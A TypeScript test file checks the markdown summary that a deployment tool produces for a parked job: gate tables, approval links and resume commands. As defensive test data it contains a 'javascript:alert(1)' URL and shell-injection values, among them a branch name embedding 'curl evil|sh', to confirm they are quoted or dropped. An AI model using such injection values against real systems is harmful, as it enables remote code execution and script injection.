/** The job summary of a job that parked: the gates it waits for, and how the deployment resumes. */
import { describe, expect, it } from 'vitest';
import type { ParkedJob } from '../../../action/effects/session.ts';
import type { RunReport } from '../../../action/engine/report.ts';
import { summaryMarkdown } from '../../../action/output/summary.ts';

const report: RunReport = {
  deploymentId: 'octo/app/42',
  application: 'potato-facts',
  result: 'parked',
  targets: [{ target: 'prod', outcome: 'parked', message: 'prod parked during beforeDeployment', steps: [], start: null, end: null }],
};

const parked = (fields: Partial<ParkedJob> = {}): ParkedJob => ({
  deploymentId: 'octo/app/42',
  waits: {
    gates: [
      { gateId: 'g1', target: 'prod', name: 'manual approval', kind: 'approval', approvalUrl: 'https://relay.example/approve/g1', deadline: Date.UTC(2025, 0, 2) },
      { gateId: 'g2', target: 'prod', name: 'Tests', kind: 'webhook', approvalUrl: null, deadline: Date.UTC(2025, 0, 3) },
    ],
    targets: ['staging'],
  },
  answer: { job: '*', resume: 'automatic', reason: null },
  resume: { repository: 'octo/app', workflow: '.github/workflows/deploy.yml', ref: 'refs/heads/main' },
  ...fields,
});

describe('summaryMarkdown of a parked job', () => {
  it('lists the pending gates with their approval links, the upstream targets, and the automatic resume', () => {
    const markdown = summaryMarkdown(report, parked());
    expect(markdown).toContain('## hookgate: potato-facts — ⏸️ parked');
    expect(markdown).toContain(
      [
        '### ⏸️ Parked: the job waits without a runner',
        '',
        '| Target | Gate | Waits until | Approve or reject |',
        '| --- | --- | --- | --- |',
        '| prod | approval manual approval | 2025-01-02T00:00:00.000Z | [approval page](https://relay.example/approve/g1) |',
        '| prod | webhook Tests | 2025-01-03T00:00:00.000Z |  |',
        '',
        'Upstream targets it waits for: staging',
        '',
        'Resumes automatically: hookgate dispatches deploy.yml on main with hookgate-resume=octo/app/42 once every gate and upstream target above is final.',
      ].join('\n'),
    );
  });

  it('says how to resume by hand, with the exact command, and escapes the relay reason', () => {
    const markdown = summaryMarkdown(report, parked({ answer: { job: '*', resume: 'manual', reason: '<b>no</b> GitHub App | ok' }, resume: { repository: 'octo/app', workflow: '.github/workflows/deploy.yml', ref: 'refs/tags/v1' } }));
    expect(markdown).toContain('Resumes by hand (&lt;b&gt;no&lt;/b&gt; GitHub App \\| ok): once every gate above is final,');
    expect(markdown).toContain('run\n\n```sh\ngh workflow run deploy.yml --ref v1 -f hookgate-resume=octo/app/42\n```\n\nor re-run this run.');
  });

  it('links no approval URL that is not plain http(s), and quotes an id the shell would split', () => {
    const odd = parked({ deploymentId: 'a;b`c', answer: { job: '*', resume: 'manual', reason: null } });
    odd.waits.gates[0] = { ...odd.waits.gates[0]!, approvalUrl: 'javascript:alert(1)' };
    const markdown = summaryMarkdown(report, odd);
    expect(markdown).not.toContain('javascript:');
    expect(markdown).toContain("gh workflow run deploy.yml --ref main -f 'hookgate-resume=a;b`c'");
  });

  it('quotes a branch the shell would run, and offers only a re-run for a ref that cannot be dispatched', () => {
    const manual = { job: '*', resume: 'manual' as const, reason: null };
    const evil = summaryMarkdown(report, parked({ answer: manual, resume: { repository: 'octo/app', workflow: '.github/workflows/deploy.yml', ref: "refs/heads/x$(curl evil|sh)'y" } }));
    expect(evil).toContain(`gh workflow run deploy.yml --ref 'x$(curl evil|sh)'\\''y' -f hookgate-resume=octo/app/42`);
    const pull = summaryMarkdown(report, parked({ answer: manual, resume: { repository: 'octo/app', workflow: '.github/workflows/deploy.yml', ref: 'refs/pull/7/merge' } }));
    expect(pull).not.toContain('gh workflow run');
    expect(pull).toContain('re-run this run.');
  });
});
